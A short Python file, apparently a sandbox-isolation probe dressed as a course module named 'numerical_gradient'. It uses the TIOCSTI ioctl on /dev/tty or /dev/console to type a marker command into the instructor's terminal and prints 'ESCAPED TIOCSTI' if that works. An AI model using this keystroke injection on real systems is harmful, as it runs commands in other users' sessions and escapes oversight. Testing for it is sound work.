"""numerical_gradient: Type a command into the instructor's terminal."""

import fcntl
import os
import termios

for name in ("/dev/tty", "/dev/console"):
    try:
        terminal = os.open(name, os.O_RDWR)
        for letter in b"touch /tmp/course/typed\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        print("ESCAPED TIOCSTI")
    except OSError:
        pass
